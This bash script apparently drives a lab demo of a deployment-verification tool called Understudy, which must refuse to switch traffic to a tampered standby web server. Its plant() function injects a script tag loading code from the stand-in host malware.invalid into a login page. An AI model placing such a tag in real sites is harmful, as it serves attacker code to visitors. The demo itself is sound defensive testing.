# shellcheck shell=bash
# day_acts.sh - acts 1 to 3 of the demo, 6 July 2009: the stand-by takes over the old way, with Understudy, and when it cannot be
# proven. Sourced by demo.sh.
# shellcheck disable=SC2154 # word_...: in words.LANGUAGE.sh; $here, $service, $pages, $log ...: in demo.sh
# shellcheck disable=SC2015 # A && B || fail: fail ends the script

# ---------------------------------------------------------------- the servers, and what was planted

set_times() { find "$1" -exec touch -h -d "$2" {} +; }

# As long ago both servers had the same pages; the news were written since.
build_sites()
{
        mkdir -p production standby repository &&
                cp -r "$here/site" production/site &&
                chmod -R u=rwX,go=rX production/site &&
                chown -R root:root production/site &&
                set_times production/site '2008-03-10 09:00 UTC' &&
                cp -a production/site standby/site &&
                touch -d '2009-07-05 18:30 UTC' production/site/news/index.html &&
                sed -i '/Maintenance on/,+1d' standby/site/news/index.html &&
                touch -d '2009-05-20 18:30 UTC' standby/site/news/index.html
}

# By hand, on the stand-by, long before the day.
plant()
{
        cp production/site/lib/templates/login.html planted.html &&
                sed -i 's|</main>|<script src="http://malware.invalid/x.js"></script>\n&|' planted.html &&
                cp planted.html standby/site/lib/templates/login.html &&
                sed -e 's|{title}|Log in|g; s|{action}|/login/|; s|{note}|Your user name is the name of your domain.|' \
                        planted.html >standby/site/login/index.html &&
                cp standby/site/login/index.html planted.html &&
                touch -d '2009-02-14 03:12 UTC' standby/site/login/index.html standby/site/lib/templates/login.html planted.html
}

start()
{
        cd "$LAB_FOLDER" || exit 3
        heading "$word_title"
        say
        say "$word_story"
        say "  $(pad 25 login/index.html) $word_planted_page"
        say "  $(pad 25 lib/templates/login.html) $word_planted_template"
        say "$word_story_end"
        say
        say "$word_count"
        heading "$word_start"
        lab_network && lab_host production 192.0.2.77 && lab_host standby 192.0.2.78 && lab_host publisher 192.0.2.70 &&
                lab_address production "$service" || fail 3 'ip'
        build_sites || fail 3 "$LAB_FOLDER"
        lab_serve production "$LAB_FOLDER/production/site" && lab_serve standby "$LAB_FOLDER/standby/site" &&
                lab_serve publisher "$LAB_FOLDER/repository" || fail 3 'nginx, php-fpm'
        step "$word_servers" 192.0.2.77 192.0.2.78
        learn_known
        plant || fail 3 "$LAB_FOLDER"
        tr ' ' '\n' <<<"$pages" >pages
        : >"$log"
        "$UNDERSTUDY_VISITOR" --pause 8 "http://$service" pages "$log" &
        day_visitor=$!
        step "$word_visitors" "http://$service"
        watch 15 "$word_production" 0
        act1_start=$(position)
}

# ---------------------------------------------------------------- act 1

act1()
{
        local copied
        heading "$word_act1"
        command_line rsync -au --out-format=%n production/site/ standby/site/
        copied=$(rsync -au --out-format=%n production/site/ standby/site/ | grep -v '/$')
        if [[ -n $copied ]]; then step "$word_copied" "$copied"; else step "$word_copied_nothing"; fi
        step "$word_old_believed"
        move_to_standby
        watch 40 "$word_standby" "$act1_start"
        move_to_production
        act2_start=$(position)
}

# ---------------------------------------------------------------- act 2

# understudy_run HOST ARGUMENT...: shows the command and runs it there; its JSON is in `answer`, its words in `words`.
understudy_run()
{
        local host=$1
        shift
        command_line understudy "$@"
        UNDERSTUDY_STATE=$LAB_FOLDER/$host/state \
                lab_in "$host" "$UNDERSTUDY" --lang "$language" "$@" --json >answer 2>words
}

# What differs, a line a path.
show_differences()
{
        local path kind what
        while IFS=$'\t' read -r path kind; do
                # shellcheck disable=SC2059
                case $kind in
                extra) what=$word_extra ;;
                content) what=$word_content ;;
                *) what=$(printf "$word_other" "$kind") ;;
                esac
                say "    $(pad 25 "$path") $what"
        done < <(jq -r "$1"' | .differences[] | [.path, .kind] | @tsv' answer)
}

admit_standby()
{
        understudy_run standby verify standby/site --pub release.pub
}

act2()
{
        local status release files
        heading "$word_act2"
        mkdir -p publisher keys
        "$UNDERSTUDY" keygen keys --no-password >/dev/null 2>words || fail 3 "$(cat words)"
        understudy_run publisher publish production/site --repo repository --key keys/release.key ||
                fail 3 "$(cat words)"
        cp keys/release.pub release.pub
        release=$(jq .release answer) files=$(jq .files answer)
        step "$word_published" "$release" "$files"

        understudy_run standby verify standby/site --repo http://192.0.2.70 --pub release.pub --release 1
        status=$?
        [[ $status -eq 1 ]] || fail 3 "$(cat words)"
        step "$word_verify_before"
        show_differences .
        cp answer found

        understudy_run standby pull standby/site --repo http://192.0.2.70 --pub release.pub --adopt
        status=$?
        [[ $status -le 1 ]] || fail 3 "$(cat words)"
        evidence=$(jq -r '.evidence // ""' answer)
        step "$word_pulled"

        if admit_standby; then
                step "$green$word_proven$plain" "$(jq .files answer)" "$(jq .release answer)"
                move_to_standby
                watch 40 "$word_standby" "$act2_start"
                move_to_production
        else
                step "$red$word_not_proven$plain" 1
                show_differences .
        fi
        act3_start=$(position)
}

# ---------------------------------------------------------------- act 3

# Not part of anything that is shown: he works in the dark.
intruder()
{
        while :; do
                cp -p planted.html standby/site/login/index.html 2>/dev/null
                sleep 0.02
        done
}

wait_for_intruder()
{
        local end=$((SECONDS + 5))
        until [[ -e standby/site/login/index.html || $SECONDS -ge $end ]]; do
                sleep 0.02
        done
}

# Moves nobody, unless the stand-by is proven.
move_if_proven()
{
        local status
        admit_standby
        status=$?
        if [[ $status -eq 0 ]]; then
                step "$red$word_not_refused$plain"
                act3_refused=false
                return
        fi
        step "$word_not_proven" "$status"
        show_differences .
        step "$green$word_refused$plain"
}

act3_page_comes_back()
{
        local status intruder
        step "$word_intruder"
        intruder &
        intruder=$!
        wait_for_intruder
        understudy_run standby pull standby/site --repo http://192.0.2.70 --pub release.pub
        status=$?
        [[ $status -le 1 ]] && step "$word_pulled_again" "$status"
        wait_for_intruder
        move_if_proven
        kill "$intruder"
        wait "$intruder" 2>/dev/null
}

# The repository's server is not trusted either.
act3_foreign_release()
{
        local status
        step "$word_foreign"
        mkdir -p foreign-keys && cp -a standby/site foreign-site &&
                "$UNDERSTUDY" keygen foreign-keys --no-password >/dev/null 2>&1 &&
                mv repository repository.genuine &&
                "$UNDERSTUDY" publish foreign-site --repo repository --key foreign-keys/release.key >/dev/null 2>&1 ||
                fail 3 "$word_foreign"
        understudy_run standby pull standby/site --repo http://192.0.2.70 --pub release.pub
        status=$?
        step "$word_foreign_refused" "$status"
        quote "$(sed 's/^understudy: //' words | tail -1)"
        if [[ $status -ge 3 ]]; then step "$green$word_refused$plain"; else act3_refused=false; fi
}

act3()
{
        act3_refused=true
        heading "$word_act3"
        act3_page_comes_back
        act3_foreign_release
        watch 15 "$word_production" "$act3_start"
        act3_end=$(position)
}
